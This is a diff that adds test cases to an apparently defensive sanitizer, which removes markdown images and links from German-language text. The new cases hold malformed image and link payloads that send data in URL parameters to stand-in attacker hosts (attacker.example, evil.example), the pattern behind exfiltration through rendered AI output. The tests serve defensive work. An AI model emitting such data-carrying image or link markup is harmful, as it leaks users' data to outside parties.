@@ -39,6 +39,15 @@ CASES = [
     ("Hier das Bild:\n<img src=\"https://attacker.example/i?d=1\" alt",
      "Hier das Bild:\n"),
     ("Preis <netto 5 €\nEnde", "Preis <netto 5 €\nEnde"),
+    # malformed targets still carry data: a space in the URL, no closing parenthesis
+    ("Bild: ![status](https://attacker.example/log?d=RABATT 77) Ende",
+     "Bild: [Bild entfernt: status] Ende"),
+    ("Bild: ![status](https://attacker.example/log?d=X\nNächste Zeile",
+     "Bild: [Bild entfernt: status]\nNächste Zeile"),
+    ("Mehr unter [Details](https://evil.example/?c=1 2) hier.",
+     "Mehr unter Details (Link entfernt) hier."),
+    ("[Handbuch](https://intern.example/hand buch)",
+     "[Handbuch](https://intern.example/hand buch)"),
 ]
 
 
